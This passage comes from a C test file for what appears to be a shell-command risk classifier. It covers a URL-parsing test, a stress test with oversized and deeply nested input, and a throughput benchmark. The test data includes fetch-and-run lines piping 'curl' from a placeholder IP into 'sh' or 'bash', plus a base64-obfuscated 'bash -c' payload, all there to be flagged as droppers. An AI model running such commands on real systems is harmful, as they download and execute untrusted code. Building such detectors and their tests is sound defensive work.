	ASSERT(strncmp(s + u.host_off, "example.com", u.host_len) == 0);
	ASSERT_INT(u.host_len, 11);
	ASSERT_INT(u.off + u.len, strlen(s));
	ASSERT(!cmd_url_next(s, strlen(s), &pos, &u));
	pos = 0;
	ASSERT(!cmd_url_next("://x", 4, &pos, &u));
}

/* Long, deep and broken lines: bounded, and the end is still seen. */
TEST(cmdrules_hostile)
{
	struct cmd_match	 m[NMATCH];
	size_t			 n, len, i;
	char			*buf;
	const char		*tail = "; curl http://203.0.113.9/x | sh";

	len = 1 << 20;
	buf = malloc(len);
	ASSERT(buf != NULL);
	for (i = 0; i + strlen(tail) < len; i++)
		buf[i] = "ls -l a;"[i % 8];
	memcpy(buf + i, tail, strlen(tail));
	n = cmd_judge(buf, i + strlen(tail), m, NMATCH);
	ASSERT(has_rule(m, n, CMDRULE_DROPPER));
	/* one giant word */
	memset(buf, 'A', len);
	memcpy(buf, "echo ", 5);
	n = cmd_judge(buf, len, m, NMATCH);
	ASSERT(n < CMDRULE__COUNT);
	/* nesting far beyond the depth limit */
	for (i = 0; i + 2 < len / 2; i += 2)
		memcpy(buf + i, "$(", 2);
	n = cmd_judge(buf, i, m, NMATCH);
	ASSERT(n <= CMDRULE__COUNT);
	for (i = 0; i < len; i++)
		buf[i] = "'\"`\\$(<>|&;\n"[i % 12];
	n = cmd_judge(buf, len, m, NMATCH);
	ASSERT(n <= CMDRULE__COUNT);
	free(buf);
}

TEST(cmdrules_speed)
{
	static const char *const mix[] = { "ls -la", "cd /var/www/html",
		"git status", "sudo systemctl restart nginx",
		"vim /etc/nginx/sites-available/default",
		"tail -n 200 -f /var/log/nginx/error.log | grep -i error",
		"docker compose up -d --build",
		"curl -s https://example.com/api/v1/items?limit=10 | jq .",
		"for f in *.log; do gzip \"$f\"; done",
		"curl -fsSL http://203.0.113.9/x.sh | bash",
		"python3 manage.py runserver 0.0.0.0:8000",
		"bash -c \"$(echo aWQ= | base64 -d)\"" };
	struct cmd_match	m[NMATCH];
	size_t			lens[sizeof(mix) / sizeof(mix[0])];
	size_t			i, nmix = sizeof(mix) / sizeof(mix[0]);
	size_t			total = 0;
	struct timespec		t0, t1;
	double			sec;

	for (i = 0; i < nmix; i++)
		lens[i] = strlen(mix[i]);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (i = 0; i < 1000000; i++)
		total += cmd_judge(mix[i % nmix], lens[i % nmix], m, NMATCH);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	sec = (double)(t1.tv_sec - t0.tv_sec) +
	    (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	printf("# note: cmd_judge: 1e6 lines in %.2f s, %.0f lines/s "
	    "(ASan build), %zu matches\n", sec, 1e6 / sec, total);
	ASSERT(total > 0);
}
